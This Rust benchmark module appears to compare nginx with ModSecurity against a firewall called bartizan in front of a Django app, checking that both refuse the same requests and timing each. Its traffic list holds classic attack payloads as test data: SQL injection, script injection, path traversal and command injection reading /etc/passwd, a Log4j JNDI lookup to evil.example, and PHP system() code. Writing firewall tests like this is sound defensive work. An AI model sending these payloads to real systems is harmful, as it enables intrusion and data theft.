//! The stack that people run, beside ours: Debian's nginx with ModSecurity and its Core Rule Set, and bartizan with the
//! same rules, before one Django app. The same traffic must be let through and refused; the difference is what it costs.

use std::fs::{self, File};
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::path::Path;
use std::process::{Command, Stdio};

use anyhow::{Context, Result, bail, ensure};

use super::super::row::{Row, median, rounded};
use super::super::server::{LOAD_CORE, Server, free_address, pinned};
use super::Options;
use crate::process;
use crate::project::Project;
use crate::setup;

/// The name of the workload.
pub(super) const WORKLOAD: &str = "django";
const PEER: &str = "nginx + ModSecurity";
const OURS: &str = "bartizan";
const MODULE: &str = "/usr/lib/nginx/modules/ngx_http_modsecurity_module.so";
const RULES: &str = "/usr/share/modsecurity-crs";

/// Compares both stacks; returns what a request costs before the app in each, and how often they agreed.
pub(super) fn measure(
    project: &Project,
    bartizan: &Path,
    folder: &Path,
    options: &Options,
) -> Result<(Vec<Row>, Vec<String>)> {
    for needed in [MODULE, RULES] {
        ensure!(Path::new(needed).exists(), "{needed} is missing: cargo xtask setup installs it");
    }
    reachable(folder)?;
    let (_app, app) = app(project, folder)?;
    let (_nginx, peer) = nginx(folder, app)?;
    let (_bartizan, ours) = ours(bartizan, folder, app)?;
    let stacks = [(PEER, &_nginx, peer), (OURS, &_bartizan, ours)];

    let mut differences = Vec::new();
    let mut count = 0;
    let journeys = stacks.iter().map(|(_, _, address)| journey(*address)).collect::<Result<Vec<_>>>()?;
    if let [theirs, ours] = &journeys[..] {
        for (theirs, ours) in theirs.iter().zip(ours) {
            count += 1;
            if theirs.1 != ours.1 {
                differences.push(format!("{}: {} there, {} here", theirs.0, theirs.1, ours.1));
            }
        }
    }
    for (name, request, is_attack) in traffic() {
        let [theirs, ours] = [ask(peer, &request)?, ask(ours, &request)?].map(|answer| answer.status == 403);
        count += 1;
        if theirs != ours {
            differences.push(format!("{name}: refused there {theirs}, here {ours}"));
        }
        if is_attack && !ours {
            eprintln!("{name}: no rule of this set refuses it, in either stack");
        }
    }
    ensure!(differences.is_empty(), "the stacks differ:\n{}", differences.join("\n"));

    let mut rows = Vec::new();
    let mut medians = Vec::new();
    for (contestant, server, address) in stacks {
        let mut values = Vec::new();
        for turn in 1..=options.runs() {
            eprintln!("run {turn} of {}: {WORKLOAD}, {contestant}", options.runs());
            let before = server.cpu_seconds()?;
            let rounds = options.count(ROUNDS);
            let traffic = traffic();
            for _ in 0..rounds {
                for (_, request, _) in &traffic {
                    ask(address, request)?;
                }
            }
            let requests = f64::from(rounds) * traffic.len() as f64;
            values.push((server.cpu_seconds()? - before) * 1e6 / requests);
        }
        medians.push((contestant, median(&values)));
    }
    let peer = medians.first().and_then(|(_, value)| *value);
    for (contestant, value) in medians {
        let Some(value) = value else { continue };
        let peer = peer.filter(|_| contestant == OURS);
        let ratio = peer.map(|peer| rounded(value / peer));
        let peer = peer.map(|_| PEER);
        rows.push(Row { workload: WORKLOAD, contestant, value: rounded(value), unit: "µs/request", peer, ratio });
    }
    Ok((
        rows,
        vec![format!("{WORKLOAD}: {count} requests of a journey and of attacks, the same answers in both stacks")],
    ))
}

/// A person in the admin: signing in, looking around, adding a user. Returns each step and its status.
fn journey(address: SocketAddr) -> Result<Vec<(&'static str, u16)>> {
    let mut jar = String::new();
    let mut steps = Vec::new();
    let mut step = |name, method: &str, path: &str, form: &[(&str, &str)], jar: &mut String| -> Result<String> {
        let body: Vec<_> = form.iter().map(|(key, value)| format!("{key}={}", encoded(value))).collect();
        let answer = ask(address, &request(method, path, &[("Cookie", jar)], FORM, body.join("&").as_bytes()))?;
        for cookie in &answer.cookies {
            let name = cookie.split('=').next().unwrap_or_default();
            let others = jar.split("; ").filter(|other| !other.is_empty() && other.split('=').next() != Some(name));
            *jar = others.chain([cookie.as_str()]).collect::<Vec<_>>().join("; ");
        }
        steps.push((name, answer.status));
        Ok(answer.body)
    };
    let token = |page: &str| {
        let found = page.split("name=\"csrfmiddlewaretoken\" value=\"").nth(1).and_then(|rest| rest.split('"').next());
        found.map(str::to_owned).context("the page has no token")
    };
    let page = step("sign-in page", "GET", "/admin/login/?next=/admin/", &[], &mut jar)?;
    let form = [
        ("csrfmiddlewaretoken", &*token(&page)?),
        ("username", "warden"),
        ("password", "a-long-password"),
        ("next", "/admin/"),
    ];
    step("signing in", "POST", "/admin/login/?next=/admin/", &form, &mut jar)?;
    step("the admin", "GET", "/admin/", &[], &mut jar)?;
    step("a style sheet", "GET", "/static/admin/css/base.css", &[], &mut jar)?;
    step("a search", "GET", "/admin/auth/user/?q=O%27Brien&is_staff__exact=1&o=1.-2", &[], &mut jar)?;
    let page = step("a form", "GET", "/admin/auth/group/add/", &[], &mut jar)?;
    let group = format!("Editors of {}", address.port());
    let form = [("csrfmiddlewaretoken", &*token(&page)?), ("name", &group), ("_save", "Save")];
    step("adding a group", "POST", "/admin/auth/group/add/", &form, &mut jar)?;
    step("the history", "GET", "/admin/auth/group/", &[], &mut jar)?;
    Ok(steps)
}

/// What ordinary people and attackers send to a view that takes anything; whether it is an attack.
fn traffic() -> Vec<(&'static str, Vec<u8>, bool)> {
    let get = |path: &str| request("GET", path, &[], "", b"");
    let form = |body: &str| request("POST", "/transfer", &[], FORM, body.as_bytes());
    let json = |body: &str| request("POST", "/transfer", &[], "application/json", body.as_bytes());
    vec![
        ("a sign-in page", get("/admin/login/?next=/admin/"), false),
        ("a search", get("/transfer?q=garden+tools&page=2&sort=price"), false),
        ("a form", form("amount=10&note=Thanks+for+the+flowers%2C+see+you+on+Monday"), false),
        ("JSON", json(r#"{"amount":10,"note":"Thanks for the flowers","items":[1,2,3]}"#), false),
        ("a file of styles", get("/static/admin/css/base.css"), false),
        ("SQL in a query", get("/transfer?id=1%27%20UNION%20SELECT%20password%20FROM%20users--%20-"), true),
        ("SQL in a form", form("id=1%27+or+%271%27%3D%271"), true),
        ("SQL in JSON", json(r#"{"id":"1' or sleep(5)-- -"}"#), true),
        ("script in a query", get("/transfer?q=%3Cscript%3Ealert(1)%3C/script%3E"), true),
        ("script in a form", form("q=%3Cimg+src%3Dx+onerror%3Dalert%281%29%3E"), true),
        ("a path that climbs", get("/transfer?file=../../../../etc/passwd"), true),
        ("a command", get("/transfer?host=127.0.0.1%3Bcat%20/etc/passwd"), true),
        ("a lookup of Log4j", get("/transfer?x=%24%7Bjndi:ldap://evil.example/a%7D"), true),
        ("code of PHP", form("x=%3C%3Fphp+system%28%24_GET%5B0%5D%29%3B"), true),
        ("a scanner", request("GET", "/transfer", &[("User-Agent", "sqlmap/1.8")], "", b""), true),
    ]
}

/// Writes a request as browsers do.
fn request(method: &str, path: &str, fields: &[(&str, &str)], kind: &str, body: &[u8]) -> Vec<u8> {
    let mut head = format!("{method} {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n");
    if !fields.iter().any(|(name, _)| *name == "User-Agent") {
        head.push_str("User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0\r\n");
    }
    head.push_str("Accept: text/html,application/xhtml+xml,*/*;q=0.8\r\nAccept-Language: en\r\n");
    for (name, value) in fields.iter().filter(|(_, value)| !value.is_empty()) {
        head.push_str(&format!("{name}: {value}\r\n"));
    }
    if method == "POST" {
        head.push_str(&format!("Content-Type: {kind}\r\nContent-Length: {}\r\n", body.len()));
    }
    [head.as_bytes(), b"\r\n", body].concat()
}

struct Answer {
    status: u16,
    cookies: Vec<String>,
    body: String,
}

fn ask(address: SocketAddr, request: &[u8]) -> Result<Answer> {
    let mut stream = TcpStream::connect(address)?;
    stream.write_all(request)?;
    let mut reader = BufReader::new(stream);
    let mut line = String::new();
    reader.read_line(&mut line)?;
    let status = line.split(' ').nth(1).and_then(|word| word.parse().ok()).with_context(|| format!("{line:?}"))?;
    let mut cookies = Vec::new();
    loop {
        let mut line = String::new();
        if reader.read_line(&mut line)? == 0 || line.trim().is_empty() {
            break;
        }
        if let Some((name, value)) = line.split_once(':')
            && name.eq_ignore_ascii_case("set-cookie")
        {
            cookies.push(value.trim().split(';').next().unwrap_or_default().to_owned());
        }
    }
    let mut body = Vec::new();
    // A server that closes early has said all that matters here.
    let _ = reader.read_to_end(&mut body);
    Ok(Answer { status, cookies, body: String::from_utf8_lossy(&body).into_owned() })
}

fn encoded(text: &str) -> String {
    text.bytes()
        .map(|byte| if byte.is_ascii_alphanumeric() { char::from(byte).to_string() } else { format!("%{byte:02X}") })
        .collect()
}

/// The workers of nginx run as another user and must reach their files.
fn reachable(folder: &Path) -> Result<()> {
    use std::os::unix::fs::PermissionsExt;
    Ok(fs::set_permissions(folder, fs::Permissions::from_mode(0o755))?)
}

/// Starts the Django app of the tests.
fn app(project: &Project, folder: &Path) -> Result<(Server, SocketAddr)> {
    let python = setup::programs(project).join("python");
    ensure!(python.exists(), "{} is missing: cargo xtask setup makes it", python.display());
    let files = project.root.join("crates/bartizan/tests/real_app");
    let state = folder.join("app");
    fs::create_dir_all(&state)?;
    let environment = |command: &mut Command| {
        command.env("REAL_APP_HOST", "localhost").env("REAL_APP_STATE", &state).env("PYTHONPATH", &files);
        command.env("PYTHONDONTWRITEBYTECODE", "1");
    };
    let mut prepare = Command::new(&python);
    environment(prepare.arg(files.join("prepare.py")));
    let output = prepare.output()?;
    ensure!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let address = free_address()?;
    let log = folder.join("app.log");
    let mut command = pinned(LOAD_CORE, &python);
    command.args(["-m", "gunicorn", "--threads", "4", "--bind", &address.to_string(), "wsgi:application"]);
    environment(&mut command);
    let file = File::create(&log)?;
    command.stdin(Stdio::null()).stdout(file.try_clone()?).stderr(file);
    let mut server = Server::from(command.spawn().context("gunicorn does not start")?);
    server.wait_until_ready(address, &log)?;
    Ok((server, address))
}

fn nginx(folder: &Path, app: SocketAddr) -> Result<(Server, SocketAddr)> {
    let Some(program) = process::find("nginx") else { bail!("nginx is missing: cargo xtask setup installs it") };
    let address = free_address()?;
    let rules = folder.join("modsecurity.conf");
    fs::write(
        &rules,
        format!(
            r#"SecRuleEngine On
SecRequestBodyAccess On
SecRule REQUEST_HEADERS:Content-Type "^(?:application(?:/soap\+|/)|text/)xml" "id:200000,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=XML"
SecRule REQUEST_HEADERS:Content-Type "^application/json" "id:200001,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=JSON"
SecRequestBodyLimit 13107200
SecResponseBodyAccess Off
SecAuditEngine Off
Include /etc/modsecurity/crs/crs-setup.conf
Include {RULES}/rules/*.conf
"#
        ),
    )?;
    let config = folder.join("nginx.conf");
    let place = folder.display();
    fs::write(
        &config,
        format!(
            "load_module {MODULE};\ndaemon off;\nworker_processes 1;\nerror_log /dev/null;\npid {place}/nginx.pid;\n\
             events {{}}\nhttp {{\naccess_log off;\nclient_body_temp_path {place}/body;\nproxy_temp_path {place}/proxy;\n\
             fastcgi_temp_path {place}/fastcgi;\nuwsgi_temp_path {place}/uwsgi;\nscgi_temp_path {place}/scgi;\n\
             modsecurity on;\nmodsecurity_rules_file {};\nserver {{\nlisten {address};\nlocation / {{\n\
             proxy_pass http://{app};\nproxy_set_header Host $http_host;\n}}\n}}\n}}\n",
            rules.display()
        ),
    )?;
    let log = folder.join("nginx.log");
    let mut server = Server::start(&program, &["-c", &config.to_string_lossy()], &log)?;
    server.wait_until_ready(address, &log).context("nginx")?;
    Ok((server, address))
}

fn ours(bartizan: &Path, folder: &Path, app: SocketAddr) -> Result<(Server, SocketAddr)> {
    let address = free_address()?;
    let config = folder.join("django.toml");
    fs::write(
        &config,
        format!(
            "[server]\nlisten = []\nlisten_http = [\"{address}\"]\nadmin = \"none\"\nworkers = 1\nstate_dir = {:?}\n\
             [server.log]\naccess = \"off\"\n[[site]]\nhosts = [\"localhost\"]\nprofile = \"compatible\"\n\
             https = {{ redirect = \"dangerous_plain_http\" }}\nupstream = [\"http://{app}\"]\n\
             requests_per_client = \"none\"\n[site.waf]\nmode = \"block\"\nrules = \"{RULES}\"\n",
            folder.join("django-state")
        ),
    )?;
    let log = folder.join("django.log");
    let mut server = Server::start(bartizan, &["serve", "--config", &config.to_string_lossy()], &log)?;
    server.wait_until_ready(address, &log).context("bartizan")?;
    Ok((server, address))
}

const FORM: &str = "application/x-www-form-urlencoded";
/// Times that the whole traffic is sent in one run.
const ROUNDS: u32 = 100;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_post_has_a_length_and_a_get_has_none() {
        let post = String::from_utf8(request("POST", "/a", &[("Cookie", "")], FORM, b"x=1")).unwrap();
        assert!(post.contains("Content-Length: 3\r\n") && post.ends_with("\r\n\r\nx=1") && !post.contains("Cookie"));
        let get = String::from_utf8(request("GET", "/a", &[("User-Agent", "me")], "", b"")).unwrap();
        assert!(!get.contains("Content-Length") && get.matches("User-Agent").count() == 1);
    }
}
